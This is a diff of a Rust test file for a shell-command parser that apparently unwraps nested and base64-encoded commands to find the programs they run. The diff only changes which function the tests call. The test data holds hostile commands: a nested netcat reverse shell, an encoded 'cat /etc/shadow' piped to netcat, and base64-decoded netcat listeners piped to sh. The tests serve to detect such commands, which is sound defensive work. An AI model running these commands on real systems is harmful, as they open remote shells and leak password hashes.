@@ -17,7 +17,7 @@ fn check(line: &str, expected: &str) {
 #[test]
 fn program_text_in_arguments_is_opened_layer_by_layer() {
     let args = ["sudo", "bash", "-c", "eval 'sh -c \"nc -e /bin/sh h 1\"'"].map(String::from);
-    let reading = Reading::of_argv(&args);
+    let reading = Reading::of_program(&args, None);
     assert_eq!(names(&reading), ["bash", "eval", "sh", "nc"]);
 }
 
@@ -48,10 +48,13 @@ fn wrappers_are_looked_through() {
 fn encoded_text_is_decoded_and_read() {
     // "cat /etc/shadow | nc h 1"
     let args = ["echo", "Y2F0IC9ldGMvc2hhZG93IHwgbmMgaCAx"].map(String::from);
-    let reading = Reading::of_argv(&args);
+    let reading = Reading::of_program(&args, None);
     assert!(reading.decoded);
     assert!(names(&reading).contains(&"nc"));
-    let plain = Reading::of_argv(&["cat".into(), "/usr/lib/x86_64/libexampleNameLong".into()]);
+    let plain = Reading::of_program(
+        &["cat".into(), "/usr/lib/x86_64/libexampleNameLong".into()],
+        None,
+    );
     assert!(!plain.decoded);
     check("echo bmMgLWwgLXAgNDQ0NA== | base64 -d | sh", "nc");
     check("bash -c \"$(echo bmMgLWwgLXAgNDQ0NA== | base64 -d)\"", "nc");
@@ -93,7 +96,7 @@ fn any_text_is_read_within_the_caps() {
         let reading = Reading::of_line(&text);
         assert!(reading.commands.len() <= MAX_COMMANDS, "{hostile}");
         assert!(reading.layers.len() <= MAX_LAYERS, "{hostile}");
-        let nested = Reading::of_argv(&["sh".to_owned(), "-c".to_owned(), text]);
+        let nested = Reading::of_program(&["sh".to_owned(), "-c".to_owned(), text], None);
         assert!(nested.layers.len() <= MAX_LAYERS, "{hostile}");
     }
 }
